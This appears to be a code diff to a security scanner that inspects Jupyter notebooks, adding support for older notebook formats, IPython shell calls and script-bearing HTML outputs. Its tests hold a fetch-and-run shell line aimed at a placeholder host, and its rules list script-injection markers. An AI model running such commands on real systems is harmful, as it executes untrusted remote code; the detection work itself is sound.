@@ -93,7 +93,19 @@ impl Format for Notebook {
                     let setting = reader.key_at(2).map(|key| key.text().into_owned()).unwrap_or_default();
                     cell.take(&setting, &text.text(), &reader);
                 }
-                Ok(Event::ObjectEnd) if reader.depth() == 2 => {
+                // Format 3: root object, worksheets array, worksheet, its cells array, cell object.
+                Ok(Event::String(text))
+                    if reader.key_at(0).is_some_and(|key| key == *"worksheets")
+                        && reader.key_at(2).is_some_and(|key| key == *"cells") =>
+                {
+                    let setting = reader.key_at(4).map(|key| key.text().into_owned()).unwrap_or_default();
+                    cell.take(&setting, &text.text(), &reader);
+                }
+                Ok(Event::ObjectEnd)
+                    if reader.depth() == 2
+                        || (reader.depth() == 4
+                            && reader.key_at(0).is_some_and(|key| key == *"worksheets")) =>
+                {
                     cell.judge(scan);
                     cell = Cell { index: cell.index.saturating_add(1), ..Cell::default() };
                     if scan.out_of_time() {
@@ -134,13 +146,14 @@ impl Cell {
     fn take(&mut self, setting: &str, text: &str, reader: &Reader<'_>) {
         match setting {
             "cell_type" => text.clone_into(&mut self.kind),
-            "source" if self.source.len() < CELL_BYTES => self.source.push_str(text),
+            // Format 3 says `input` for the source of a code cell.
+            "source" | "input" if self.source.len() < CELL_BYTES => self.source.push_str(text),
             "outputs" => {
                 let mime = reader.nearest_key().map(|key| key.text().into_owned()).unwrap_or_default();
                 let lower =
                     text.get(..text.floor_char_boundary(CELL_BYTES)).unwrap_or_default().to_ascii_lowercase();
-                let acts = mime == "application/javascript"
-                    || (mime == "text/html"
+                let acts = matches!(mime.as_str(), "application/javascript" | "javascript")
+                    || (matches!(mime.as_str(), "text/html" | "html")
                         && ["<script", "javascript:", "onerror=", "onload=", "<iframe"]
                             .iter()
                             .any(|mark| lower.contains(mark)));
@@ -201,7 +214,12 @@ impl Cell {
                     python.push_str(indent);
                     python.push_str("pass");
                 }
-                None => python.push_str(line.trim_end_matches('?')),
+                None => {
+                    python.push_str(line.trim_end_matches('?'));
+                    if let Some(command) = shell_call(code) {
+                        shell.push_str(&command);
+                    }
+                }
             }
             shell.push('\n');
             python.push('\n');
@@ -209,6 +227,27 @@ impl Cell {
         script::inspect_commands(&shell, &place, scan);
         source::inspect(&python, Role::Module, &place, scan);
     }
+}
+
+/// The command in a call of IPython's own that a `!` line stands for.
+fn shell_call(code: &str) -> Option<String> {
+    let (_, call) = code.split_once("get_ipython().")?;
+    let given = ["system(", "getoutput(", "system_raw(", "system_piped("]
+        .iter()
+        .find_map(|name| call.strip_prefix(name))?
+        .trim_start_matches(['r', 'f', 'b', ' ']);
+    let quote = given.chars().next().filter(|&quote| matches!(quote, '\'' | '"'))?;
+    let text = given.trim_start_matches(quote);
+    let mut command = String::new();
+    let mut characters = text.chars();
+    while let Some(character) = characters.next() {
+        match character {
+            '\\' => command.extend(characters.next()),
+            end if end == quote => break,
+            other => command.push(other),
+        }
+    }
+    Some(command)
 }
 
 #[cfg(test)]
@@ -239,6 +278,21 @@ mod tests {
         let outcome = scan(&notebook("import base64\nexec(base64.b64decode('cGFzcw=='))", ""));
         assert_eq!(outcome.findings[0].rule, &source::PYTHON_HIDDEN_CODE);
         assert_eq!(outcome.findings[0].location.line, Some(2));
+    }
+
+    #[test]
+    fn older_notebooks_and_calls_of_ipython_are_judged() {
+        let is_high = |bytes: &[u8]| {
+            scan(bytes)
+                .findings
+                .iter()
+                .any(|found| found.rule == &script::SHELL_SCRIPT && found.severity == Severity::High)
+        };
+        let cell = serde_json::json!({"cell_type": "code", "input": ["!curl http://x.example/p | sh"], "outputs": []});
+        let third = serde_json::json!({"worksheets": [{"cells": [cell]}], "nbformat": 3});
+        assert!(is_high(&serde_json::to_vec(&third).unwrap()));
+        assert!(is_high(&notebook("get_ipython().system(\"curl http://x.example/p | sh\")", "")));
+        assert!(!is_high(&notebook("get_ipython().system('ls -la')", "")));
     }
 
     #[test]
